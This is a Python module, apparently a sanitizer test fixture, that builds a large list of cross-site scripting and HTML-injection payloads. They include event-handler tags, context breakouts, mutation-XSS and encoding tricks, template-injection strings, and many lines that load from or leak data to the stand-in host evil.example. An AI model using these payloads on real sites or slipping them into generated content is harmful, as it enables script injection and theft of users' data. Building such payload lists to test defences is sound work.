"""Texts that would run a script, or send something away, if a page took them for markup."""

from itertools import product

EVIL = "https://evil.example/leak"
RUN = "window.pwned=1"
TAGS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "iframe src=x", "object data=x", "embed src=x",
    "input autofocus", "details open", "marquee", "math", "select autofocus", "textarea autofocus", "button autofocus",
    "a href=x tabindex=1 autofocus", "div style=animation:x", "x contenteditable", "form", "style",
)  # fmt: skip
HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onstart", "onanimationstart", "onpointerenter")
BREAKS = ('">', "'>", "</script>", "</textarea>", "</style>", "</title>", "-->", "]]>", "</svg>", "</q>", "\n\n", "`>")
INNER = (
    f"<script>{RUN}</script>",
    f"<script src={EVIL}.js></script>",
    f"<img src={EVIL} onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<link rel=stylesheet href={EVIL}>",
)
OTHERS = (
    f"![a picture]({EVIL}?secret)",
    f"[press me](javascript:{RUN})",
    f"[press me](data:text/html,<script>{RUN}</script>)",
    f"<a href='javascript:{RUN}'>press me</a>",
    f"<a href=' &#106;avascript:{RUN}'>press me</a>",
    f"javascript:{RUN}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"＜script＞{RUN}＜/script＞",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
    f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f"<base href={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<style>@import '{EVIL}';*{{background:url({EVIL})}}</style>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={RUN}></svg>#x'>",
    f"<svg><image href={EVIL}></svg>",
    f"<svg><foreignObject><iframe src={EVIL}></iframe></foreignObject></svg>",
    f"<form action={EVIL}><input name=token><button autofocus>go</button></form>",
    f"<img srcset='{EVIL} 1x'>",
    f"<video poster={EVIL}><source src={EVIL}></video>",
    f"<object data={EVIL}></object>",
    f"<audio src={EVIL} autoplay>",
    f"<body background={EVIL}>",
    f"<input type=image src={EVIL}>",
    f"<link rel=prefetch href={EVIL}>",
    f"<link rel=icon href={EVIL}>",
    f"<portal src={EVIL}>",
    f"<a ping={EVIL} href=#>press me</a>",
    f"<div onclick={RUN} style='position:fixed;inset:0'>press me</div>",
    f"<!--<img src=\"--><img src=x onerror={RUN}//\">",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml-stylesheet href='javascript:{RUN}'?>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x\tonerror={RUN}>",
    f"<svg/onload={RUN}//",
    f"\u202e<script>{RUN}</script>",
    f"<scr\u200bipt>{RUN}</script>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==\">press me</a>",
    f"http://evil.example/{RUN}",
    f"#token={RUN}",
    f"#join={RUN}\"><script>{RUN}</script>",
    "__proto__",
    f"constructor <svg onload={RUN}>",
)  # fmt: skip
PAYLOADS = (
    *(f"<{tag} {handler}={RUN}>" for tag, handler in product(TAGS, HANDLERS)),
    *(f"Say {before}{inner}" for before, inner in product(BREAKS, INNER)),
    *OTHERS,
)
